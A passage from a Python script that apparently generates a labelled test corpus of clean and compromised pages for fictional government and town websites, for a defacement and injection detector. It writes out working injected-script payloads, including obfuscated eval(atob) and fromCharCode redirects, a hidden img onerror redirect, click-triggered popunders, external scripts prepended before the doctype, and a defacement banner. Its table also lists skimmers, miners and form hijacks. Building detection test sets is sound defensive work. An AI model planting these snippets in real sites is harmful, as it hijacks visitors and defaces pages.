            codes = ",".join(str(ord(c)) for c in f"window.location='{u}'")
            h = r.choice([f"<script>eval(String.fromCharCode({codes}))</script>",
                          "<script>var _$=['\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e','%s'];window[_$[0]]=_$[1];</script>" % "".join("\\x%02x" % ord(c) for c in u)])
        elif kind == "window_open":
            h = f"<script>document.addEventListener('click',function(){{if(!window._p){{window._p=1;window.open('{u}','_blank');}}}});</script>"
        return {r.choice(["head", "top", "foot"]): h + "\n"}, []
    return f


def a_script_usercontent(r, s):
    u = r.choice(["https://cdn.jsdelivr.net/gh/%s/%s@main/dist/app.min.js" % (alnum(r, 8).lower(), r.choice(["jq-plugins", "sitekit", "utils"])),
                  "https://rawcdn.githack.com/%s/assets/%s/loader.js" % (alnum(r, 7).lower(), hexs(r, 40)),
                  "https://unpkg.com/%s-%s@1.0.%d/index.js" % (r.choice(["jquery", "react", "lodash"]), alnum(r, 5).lower(), r.randint(0, 9)),
                  "https://cdn.statically.io/gh/%s/cdn/main/m.js" % alnum(r, 9).lower()])
    return {r.choice(["head", "foot"]): '<script src="%s"></script>\n' % u}, []


def a_script_before_doctype(r, s):
    host = r.choice(["trackstatisticsss.com", "cdn.scriptsplatform.com", "js.donatelloflowfirstly.ga", "lobbydesires.com"])
    return {"prepend": "<script type='text/javascript' src='https://%s/%s.js?v=%d'></script>" % (host, alnum(r, 4).lower(), r.randint(1, 99))}, []


def a_redirect_onerror(r, s):
    u = r.choice(REDIR) % alnum(r, 5).lower()
    return {"main": '<img src="/x%d.gif" width="1" height="1" style="display:none" onerror="window.location.href=\'%s\'">\n' % (r.randint(1, 99), u)}, []


def a_redirect_whole_page(r, s):
    u = r.choice(REDIR) % alnum(r, 5).lower()
    return {"replace": '<!DOCTYPE html><html><head><meta charset="utf-8"><title>Loading...</title><script>var d=new Date();if(d){location.replace("%s");}</script></head><body><p>Please wait...</p></body></html>\n' % u}, []


def a_redirect_eval_atob(r, s):
    import base64
    u = r.choice(REDIR) % alnum(r, 5).lower()
    code = "if(document.cookie.indexOf('wp_v=')<0){document.cookie='wp_v=1;path=/';window.location.replace('%s');}" % u
    enc = base64.b64encode(code.encode()).decode()
    return {r.choice(["head", "foot"]): "<script>eval(atob('%s'));</script>\n" % enc}, []


def a_deface_partial_fa_on_en(r, s):
    h = r.choice(HANDLES)
    return {"main_pre": '<div dir="rtl" style="background:#000;color:#0f0;padding:20px;text-align:center"><h2>پیام به مدیر سایت</h2><p>امنیت سایت شما در حد صفر است. ما وارد شدیم و رفتیم. آیدی ما در تلگرام: @%s</p></div>\n' % h.lower()}, []


def a_seo_title_meta_fa(r, s):
    kw = r.sample(SPAM_FA, 3)
    return {"title": " | ".join(kw), "head": '<meta name="description" content="%s">\n<meta name="keywords" content="%s">\n' % ("، ".join(kw), ",".join(SPAM_FA))}, []


def council_new(r, i, m):
    n = noise(r, i)
    items = news_items(NEWS_EN, i + 7, m.get("news", ()))
    news = "".join('<li><a href="/news/%d/">%s</a> <time>%s</time></li>' % (90 + k + i, t, n["gdate"]) for k, t in enumerate(items))
    return f"""<!doctype html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Town of Millbrook, Vermont</title><link rel="stylesheet" href="/assets/css/town.css?v=2"></head>
<body><header class="bar"><a href="/" class="brand">Town of Millbrook</a><nav><a href="/government/">Government</a><a href="/services/">Services</a><a href="/minutes/">Agendas &amp; Minutes</a><a href="/contact/">Contact</a></nav></header>
<main><section class="hero"><h1>Welcome to Millbrook</h1><p>Town Hall is open Monday&ndash;Friday, 8:00&ndash;4:30. Today is {n['gdate']}.</p></section>
<section><h2>Town News</h2><ul class="news">{news}</ul></section>
<section><h2>Transfer Station</h2><p>Wednesday and Saturday 8&ndash;3. Dog licenses are due by January 31.</p></section></main>
<footer><p>Town of Millbrook &middot; 1 Common Street &middot; Millbrook, VT 05999</p></footer>
<script src="/assets/js/town.js?v=2" defer></script></body></html>
"""


ATTACK = [
    ("deface_full_en", a_deface_full("en", True), ["court_kentico_en", "school_hugo_en", "police_umbraco_en"]),
    ("deface_full_en_nosig", a_deface_full("en", False), ["customs_dnn_en", "council_frontpage_en"]),
    ("deface_full_fa", a_deface_full("fa", True), ["hospital_rayan_fa", "governor_sadaf_fa"]),
    ("deface_full_fa_nosig", a_deface_full("fa", False), ["tax_sitefinity_bi", "research_nuxt_fa"]),
    ("deface_full_tr", a_deface_full("tr", True), ["governor_sadaf_fa", "court_kentico_en"]),
    ("deface_full_tr_nosig", a_deface_full("tr", False), ["museum_next_bi"]),
    ("deface_full_id", a_deface_full("id", True), ["school_hugo_en", "hospital_rayan_fa"]),
    ("deface_full_id_nosig", a_deface_full("id", False), ["police_umbraco_en"]),
    ("deface_full_ar", a_deface_full("ar", True), ["research_nuxt_fa", "customs_dnn_en"]),
    ("deface_full_ar_nosig", a_deface_full("ar", False), ["council_frontpage_en"]),
    ("deface_full_pt", a_deface_full("pt", True), ["museum_next_bi", "council_frontpage_en"]),
    ("deface_full_pt_nosig", a_deface_full("pt", False), ["court_kentico_en"]),
    ("deface_full_ru", a_deface_full("ru", True), ["tax_sitefinity_bi", "police_umbraco_en"]),
    ("deface_full_ru_nosig", a_deface_full("ru", False), ["governor_sadaf_fa"]),
    ("deface_partial_signature", a_deface_partial_sig, ["court_kentico_en", "hospital_rayan_fa", "museum_next_bi"]),
    ("deface_partial_marquee_handles", a_deface_marquee_handles, ["governor_sadaf_fa", "customs_dnn_en", "council_frontpage_en"]),
    ("deface_partial_extortion", a_deface_extortion, ["hospital_rayan_fa", "school_hugo_en", "tax_sitefinity_bi"]),
    ("deface_partial_greetings", a_deface_greetings, ["police_umbraco_en", "research_nuxt_fa"]),
    ("deface_partial_foreign_block", a_deface_block_lang, ["governor_sadaf_fa", "hospital_rayan_fa", "court_kentico_en", "school_hugo_en"]),
    ("deface_overlay", a_deface_overlay, ["tax_sitefinity_bi", "museum_next_bi", "customs_dnn_en"]),
    ("deface_new_post", a_deface_new_post, ["council_frontpage_en", "police_umbraco_en"]),
    ("title_replaced", a_title_replaced, ["court_kentico_en", "governor_sadaf_fa", "school_hugo_en", "research_nuxt_fa"]),
    ("script_lookalike", a_script_lookalike, ["court_kentico_en", "hospital_rayan_fa", "tax_sitefinity_bi", "police_umbraco_en", "museum_next_bi"]),
    ("script_bare_ip", a_script_bare_ip, ["governor_sadaf_fa", "customs_dnn_en", "council_frontpage_en", "research_nuxt_fa"]),
    ("script_protocol_relative", a_script_protocol_relative, ["school_hugo_en", "hospital_rayan_fa", "police_umbraco_en"]),
    ("script_obfuscated", a_script_obfuscated, ["court_kentico_en", "governor_sadaf_fa", "tax_sitefinity_bi", "customs_dnn_en", "museum_next_bi", "research_nuxt_fa"]),
    ("script_miner", a_miner, ["council_frontpage_en", "school_hugo_en", "hospital_rayan_fa", "police_umbraco_en"]),
    ("script_skimmer", a_skimmer, ["tax_sitefinity_bi", "museum_next_bi", "court_kentico_en"]),
    ("iframe_hidden_zero_size", a_iframe("zero_size"), ["governor_sadaf_fa", "council_frontpage_en"]),
    ("iframe_hidden_one_pixel", a_iframe("one_pixel"), ["court_kentico_en"]),
    ("iframe_hidden_display_none", a_iframe("display_none"), ["hospital_rayan_fa"]),
    ("iframe_hidden_visibility", a_iframe("visibility_hidden"), ["school_hugo_en"]),
    ("iframe_hidden_offscreen", a_iframe("offscreen"), ["research_nuxt_fa"]),
    ("iframe_hidden_opacity", a_iframe("opacity"), ["police_umbraco_en"]),
    ("iframe_hidden_attr", a_iframe("hidden_attr"), ["customs_dnn_en"]),
    ("iframe_hidden_css_class", a_iframe("css_class"), ["museum_next_bi"]),
    ("iframe_hidden_parent", a_iframe("parent_hidden"), ["tax_sitefinity_bi"]),
    ("iframe_hidden_script_written", a_iframe("script_written"), ["governor_sadaf_fa"]),
    ("seo_spam_display_none", a_seo("display_none"), ["court_kentico_en", "school_hugo_en"]),
    ("seo_spam_offscreen", a_seo("offscreen"), ["customs_dnn_en"]),
    ("seo_spam_text_indent", a_seo("text_indent"), ["police_umbraco_en"]),
    ("seo_spam_font_size_zero", a_seo("font_size_zero"), ["council_frontpage_en"]),
    ("seo_spam_height_zero", a_seo("height_zero"), ["museum_next_bi"]),
    ("seo_spam_css_class", a_seo("css_class"), ["school_hugo_en"]),
    ("seo_spam_color_same", a_seo("color_same"), ["court_kentico_en"]),
    ("seo_spam_script_hidden", a_seo("script_hidden"), ["police_umbraco_en"]),
    ("seo_spam_noscript", a_seo("noscript"), ["customs_dnn_en"]),
    ("seo_spam_visible_links", a_seo("visible"), ["council_frontpage_en", "school_hugo_en"]),
    ("seo_spam_gambling_fa_display_none", a_seo("display_none", True), ["governor_sadaf_fa", "hospital_rayan_fa"]),
    ("seo_spam_gambling_fa_offscreen", a_seo("offscreen", True), ["tax_sitefinity_bi"]),
    ("seo_spam_gambling_fa_css_class", a_seo("css_class", True), ["research_nuxt_fa"]),
    ("seo_spam_gambling_fa_font_size_zero", a_seo("font_size_zero", True), ["hospital_rayan_fa"]),
    ("seo_spam_gambling_fa_visible", a_seo("visible", True), ["governor_sadaf_fa"]),
    ("seo_spam_japanese_keywords", a_seo_japanese, ["court_kentico_en", "school_hugo_en", "council_frontpage_en"]),
    ("form_hijack", a_form_hijack, ["hospital_rayan_fa", "tax_sitefinity_bi", "police_umbraco_en", "court_kentico_en"]),
    ("form_hijack_js", a_form_hijack_js, ["museum_next_bi", "tax_sitefinity_bi", "customs_dnn_en"]),
    ("form_fake_payment_gateway", a_fake_gateway, ["governor_sadaf_fa", "court_kentico_en", "hospital_rayan_fa"]),
    ("redirect_meta_refresh", a_redirect("meta"), ["school_hugo_en", "governor_sadaf_fa", "council_frontpage_en"]),
    ("redirect_js", a_redirect("js"), ["police_umbraco_en", "research_nuxt_fa", "customs_dnn_en"]),
    ("redirect_referrer", a_redirect("referrer"), ["court_kentico_en", "hospital_rayan_fa"]),
    ("redirect_mobile", a_redirect("mobile"), ["tax_sitefinity_bi", "museum_next_bi"]),
    ("redirect_obfuscated", a_redirect("obfuscated"), ["governor_sadaf_fa", "school_hugo_en", "customs_dnn_en"]),
    ("redirect_popunder", a_redirect("window_open"), ["council_frontpage_en", "research_nuxt_fa"]),
    ("script_usercontent_cdn", a_script_usercontent, ["court_kentico_en", "governor_sadaf_fa", "school_hugo_en", "museum_next_bi"]),
    ("script_before_doctype", a_script_before_doctype, ["hospital_rayan_fa", "police_umbraco_en", "council_frontpage_en"]),
    ("redirect_img_onerror", a_redirect_onerror, ["tax_sitefinity_bi", "customs_dnn_en"]),
    ("redirect_whole_page", a_redirect_whole_page, ["school_hugo_en", "governor_sadaf_fa"]),
    ("redirect_eval_atob", a_redirect_eval_atob, ["court_kentico_en", "research_nuxt_fa", "hospital_rayan_fa"]),
    ("deface_partial_persian_on_english", a_deface_partial_fa_on_en, ["customs_dnn_en", "police_umbraco_en"]),
    ("seo_spam_gambling_fa_title_meta", a_seo_title_meta_fa, ["governor_sadaf_fa", "research_nuxt_fa"]),
    ("deface_partial_hero_replaced", a_deface_hero, ["governor_sadaf_fa", "school_hugo_en", "customs_dnn_en"]),
    ("script_miner_worker", a_miner_worker, ["research_nuxt_fa", "court_kentico_en"]),
    ("script_skimmer_websocket", a_skimmer_ws, ["tax_sitefinity_bi", "hospital_rayan_fa"]),
    ("redirect_meta_in_body", a_redirect_meta_body, ["police_umbraco_en", "hospital_rayan_fa"]),
    ("seo_spam_clip", a_seo_clip, ["court_kentico_en", "governor_sadaf_fa"]),
]


# --------------------------------------------------------------------------

def write(path, text):
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        f.write(text)


def main():
    for d in ("site", "benign", "attack"):
        shutil.rmtree(os.path.join(HERE, d), ignore_errors=True)
    for s, (render, url, lang, own, jq) in SITES.items():
        d = os.path.join(HERE, "site", s)
        os.makedirs(d)
        for i in (1, 2, 3):
            write(os.path.join(d, "base%d.html" % i), render(random.Random("%d:%s:%d" % (SEED, s, i)), i, {}))
    counts = {}
    for kind, table in (("benign", BENIGN), ("attack", ATTACK)):
        for cls, fn, sites in table:
            for s in sites:
                name = "%s__%s" % (cls, s)
                r = random.Random("%d:%s" % (SEED, name))
                mods, extra = fn(r, s)
                render, url, lang, own, jq = SITES[s]
                if kind == "benign" and not mods and cls != "noise_only":
                    continue
                if "cmsv" in mods and mods["cmsv"] is None:
                    continue
                d = os.path.join(HERE, kind, name)
                os.makedirs(d)
                if "replace" in mods:
                    page = mods["replace"]
                else:
                    page = mods.get("prepend", "") + render(r, 4 + r.randint(0, 2), mods)
                write(os.path.join(d, "new.html"), page)
                lines = ["%s %s" % (kind, cls), "site %s" % s, "url %s" % url] + ["own %s" % o for o in own] + extra
                write(os.path.join(d, "expect"), "\n".join(lines) + "\n")
                counts[(kind, cls)] = counts.get((kind, cls), 0) + 1
    name = "redesign_accepted__council_frontpage_en"
    d = os.path.join(HERE, "benign", name)
    os.makedirs(d)
    for i in (1, 2, 3):
        write(os.path.join(d, "base%d.html" % i), council_new(random.Random("%d:%s:new:%d" % (SEED, name, i)), i, {}))
        write(os.path.join(d, "old%d.html" % i), council(random.Random("%d:%s:old:%d" % (SEED, name, i)), i, {}))
    write(os.path.join(d, "new.html"), council_new(random.Random("%d:%s:new:4" % (SEED, name)), 4, {}))
    write(os.path.join(d, "expect"), "benign redesign_accepted\nurl %s\n" % SITES["council_frontpage_en"][1])
    counts[("benign", "redesign_accepted")] = 1
    for kind in ("benign", "attack"):
        tot = 0
        for (k, c), n in sorted(counts.items()):
            if k == kind:
                print("%s %-40s %d" % (k, c, n))
                tot += n
        print("%s total %d" % (kind, tot))


if __name__ == "__main__":
    sys.exit(main())
